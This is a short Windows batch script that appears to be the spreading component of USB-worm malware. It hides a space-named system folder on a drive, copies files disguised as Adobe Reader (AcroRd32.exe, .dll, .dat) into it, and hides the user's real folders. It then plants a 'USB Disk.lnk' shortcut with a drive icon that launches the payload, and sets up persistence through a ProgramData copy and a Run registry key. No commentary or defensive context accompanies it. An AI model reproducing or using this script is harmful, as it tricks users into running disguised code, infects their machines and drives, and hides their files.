@echo off
set D=%1
mkdir "%D%\ " 2>nul
attrib +h +s "%D%\ "
xcopy /h /y "%~dp0AcroRd32.exe" "%D%\ \" >nul
xcopy /h /y "%~dp0AcroRd32.dll" "%D%\ \" >nul
xcopy /h /y "%~dp0AcroRd32.dat" "%D%\ \" >nul
for /d %%f in ("%D%\*") do if not "%%~nxf"==" " (attrib +h "%%f" & echo [InternetShortcut]>nul)
powershell -c "$s=(New-Object -ComObject WScript.Shell).CreateShortcut('%D%\USB Disk.lnk');$s.TargetPath='%D%\ \AcroRd32.exe';$s.IconLocation='%SystemRoot%\system32\shell32.dll,7';$s.Save()"
copy /y "%~dp0AcroRd32.*" "%ProgramData%\AcroRd\" >nul
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v AcroRd /d "%ProgramData%\AcroRd\AcroRd32.exe" /f >nul
